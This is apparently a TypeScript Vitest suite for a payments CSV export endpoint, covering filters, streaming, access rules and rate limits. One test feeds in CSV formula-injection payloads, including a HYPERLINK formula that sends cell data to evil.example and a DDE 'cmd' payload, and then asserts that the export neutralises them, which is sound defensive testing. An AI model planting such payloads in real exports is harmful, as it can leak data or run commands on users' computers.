import { describe, expect, it } from "vitest";
import { accountOperations } from "@/lib/api/account/operations";
import { Prisma, query } from "@/lib/kit/db";
import { book, bookedPayment } from "@/tests/support/many-payments";
import { newMember } from "@/tests/support/member";
import { newMerchant } from "@/tests/support/merchant";
import { sessionFor } from "@/tests/support/session";
import { callAccount, requestAccount } from "../../support/account/member-client";

const { exportPayments } = accountOperations;

/** Parses a CSV file as a spreadsheet does. */
function fieldsOf(csv: string): string[][] {
  const rows: string[][] = [[""]];
  let isQuoted = false;
  for (let at = 0; at < csv.length; at++) {
    const row = rows.at(-1)!;
    const sign = csv[at]!;
    if (isQuoted && sign === '"' && csv[at + 1] === '"') {
      row[row.length - 1] += '"';
      at += 1;
    } else if (sign === '"') isQuoted = !isQuoted;
    else if (sign === "," && !isQuoted) row.push("");
    else if (sign === "\r" && csv[at + 1] === "\n" && !isQuoted) {
      rows.push([""]);
      at += 1;
    } else row[row.length - 1] += sign;
  }
  return rows.slice(0, -1);
}

describe("the payments export", () => {
  it("has every payment matching the filters, with times in the zone and in UTC", async () => {
    const merchant = await newMerchant();
    const createdAt = new Date("2026-11-20T19:05:06.789Z");
    const kept = bookedPayment(merchant, {
      createdAt,
      amount: 150_050n,
      refundedAmount: 50_000n,
      merchantOrderId: 'say "hi", order; 7',
      comment: "two\r\nlines",
    });
    await book([kept, bookedPayment(merchant, { createdAt, status: "failed" })]);
    const { status, headers, text } = await callAccount(merchant.owner, exportPayments, {
      query: { status: "partly_refunded", created_from: "2026-11-21", created_to: "2026-11-21" },
    });
    expect(status).toBe(200);
    expect(headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(headers.get("content-disposition")).toBe(
      'attachment; filename="payments-2026-11-21-to-2026-11-21.csv"',
    );
    const [names, values, ...more] = fieldsOf(text);
    expect(more).toEqual([]);
    const row = Object.fromEntries(names!.map((name, index) => [name, values![index]]));
    expect(row).toMatchObject({
      payment_id: kept.id,
      status: "partly_refunded",
      api_status: "completed",
      amount: "1500.50",
      currency: "KZT",
      refunded_amount: "500.00",
      "created_at (Asia/Almaty)": "2026-11-21 00:05:06",
      "created_at (UTC)": "2026-11-20T19:05:06.789+00:00",
      payer_phone: "+77011234567",
      merchant_order_id: 'say "hi", order; 7',
      comment: "two\r\nlines",
      device: "Till 1",
      made_by: "",
    });
  });

  it("can have only selected payments, of those that the member can see", async () => {
    const [merchant, other] = [await newMerchant(), await newMerchant()];
    const [first, second, left] = [1, 2, 3].map(() => bookedPayment(merchant));
    const foreign = bookedPayment(other);
    await book([first!, second!, left!, foreign]);
    const ids = [second!.id, foreign.id, first!.id].join(",");
    const { text } = await callAccount(merchant.owner, exportPayments, { query: { ids } });
    expect(fieldsOf(text).map(([id]) => id)).toEqual([
      expect.stringContaining("payment_id"),
      second!.id,
      first!.id,
    ]);
  });

  it("starts with the byte order mark by which spreadsheets recognize UTF-8", async () => {
    const { owner } = await newMerchant();
    const response = await requestAccount(owner, exportPayments);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it("contains nothing that a spreadsheet executes", async () => {
    const merchant = await newMerchant();
    const evil = [
      `=HYPERLINK("https://evil.example/?"&A1,"Click")`,
      "+1+1",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)",
      "\t=1+1",
      "\r=1+1",
    ];
    await book(
      evil.map((text) => bookedPayment(merchant, { merchantOrderId: text, comment: text })),
    );
    const { text } = await callAccount(merchant.owner, exportPayments);
    const [, ...rows] = fieldsOf(text);
    expect(rows).toHaveLength(evil.length);
    for (const field of rows.flat()) expect(field).not.toMatch(/^(?!\+77011234567$)[=+\-@\t\r]/);
    const shown = rows.flat().filter((field) => field.startsWith("'"));
    for (const text of evil) expect(shown.filter((field) => field === `'${text}`)).toHaveLength(2);
  });

  it("is streamed: 12,000 rows in order, and none are read after the client disconnects", async () => {
    const merchant = await newMerchant();
    const { organizationId, userId } = merchant.owner;
    await query(Prisma.sql`
      INSERT INTO payments (id, organization_id, mode, user_id, method, amount, currency, status, payer_phone,
        expires_at, created_at, updated_at, completed_at)
      SELECT typeid('pay'), ${organizationId}, 'test', ${userId}, 'direct', n, 'KZT', 'completed', '+77011234567',
        at, at, at, at
      FROM (SELECT n, now() - make_interval(secs => n) AS at FROM generate_series(1, 12000) n) s RETURNING 1`);
    const whole = await callAccount(merchant.owner, exportPayments);
    const amounts = fieldsOf(whole.text)
      .slice(1)
      .map(([, , amount]) => Math.round(Number(amount) * 100));
    expect(amounts).toEqual(Array.from({ length: 12_000 }, (_, index) => index + 1));

    const response = await requestAccount(merchant.owner, exportPayments);
    const reader = response.body!.getReader();
    const parts: string[] = [];
    for (let part = 0; part < 4; part++) {
      parts.push(new TextDecoder().decode((await reader.read()).value));
    }
    // The byte order mark and the header come first, then one batch in each part.
    expect(parts.slice(2).map((part) => part.split("\r\n").length - 1)).toEqual([100, 100]);
    await reader.cancel();
    await query(
      Prisma.sql`DELETE FROM payments WHERE organization_id = ${organizationId} RETURNING 1`,
    );
  });

  it("is downloaded by a link with the organization and mode in its URL", async () => {
    const merchant = await newMerchant();
    const other = await newMerchant();
    await book([bookedPayment(merchant)]);
    const { cookie } = (await sessionFor({ userId: merchant.owner.userId })).headers;
    const download = (organization: string, mode: string) =>
      callAccount(merchant.owner, exportPayments, {
        query: { organization, mode },
        headers: { cookie: cookie! },
      });
    const { organizationId } = merchant.owner;
    expect(fieldsOf((await download(organizationId, "test")).text)).toHaveLength(2);
    expect(fieldsOf((await download(organizationId, "live")).text)).toHaveLength(1);
    expect((await download(other.owner.organizationId, "test")).status).toBe(403);
  });

  it("is refused before it starts: without a session, and with an invalid filter", async () => {
    const merchant = await newMerchant();
    const accountant = await newMember(merchant.organization.id, "accountant");
    expect((await callAccount(accountant, exportPayments)).status).toBe(200);
    expect((await callAccount(accountant, exportPayments, { headers: {} })).status).toBe(401);
    const wrong = await callAccount(accountant, exportPayments, { query: { payer_phone: "x" } });
    expect(wrong.status).toBe(400);
    expect(wrong.body.message).toContain("payer_phone must be a phone number");
  });

  it("can be downloaded ten times a minute by each member, then is refused with Retry-After", async () => {
    const merchant = await newMerchant();
    const { owner } = merchant;
    const refunds = accountOperations.exportRefunds;
    for (let time = 0; time < 10; time++) {
      const { status } = await callAccount(owner, time % 2 ? exportPayments : refunds);
      expect(status).toBe(200);
    }
    const refused = await callAccount(owner, exportPayments);
    expect(refused.status).toBe(429);
    expect(refused.body.error).toBe("RATE_LIMITED");
    expect(Number(refused.headers.get("retry-after"))).toBeGreaterThan(0);
    const another = await newMember(merchant.organization.id, "accountant");
    expect((await callAccount(another, exportPayments)).status).toBe(200);
  });
});
